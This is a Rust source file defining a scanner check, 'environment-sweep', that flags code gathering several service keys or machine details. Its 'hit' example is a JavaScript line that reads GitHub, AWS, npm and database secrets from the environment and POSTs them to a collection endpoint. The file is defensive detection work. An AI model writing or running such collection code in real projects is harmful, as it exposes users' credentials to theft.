//! A program that gathers keys, or tells whose machine it runs on.

use crate::check::{Check, Context, threats};
use crate::rule::Match;
use crate::value::severity::Severity;
use crate::value::verdict::Action;

/// The check.
pub const CHECK: Check = Check {
    id: "environment-sweep",
    category: "exfiltration",
    severity: Severity::High,
    action: Action::Confirm,
    why: "Keys of several services, or whose machine it is and where it stands, are what an attacker wants to know first.",
    help: "Name the one variable that is needed, and send nothing that tells of the machine or its user.",
    hit: "const found = { a: process.env.GITHUB_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY, c: process.env.NPM_TOKEN, d: process.env.DATABASE_URL };\nfetch('http://127.0.0.1:3000/collect', { method: 'POST', body: JSON.stringify(found) });",
    miss: "const found = { a: process.env.GITHUB_TOKEN };\nfetch('https://api.github.com/user', { headers: { authorization: found.a } });",
    run,
};

fn run(context: &Context<'_>) -> Vec<Match> {
    threats(context)
}
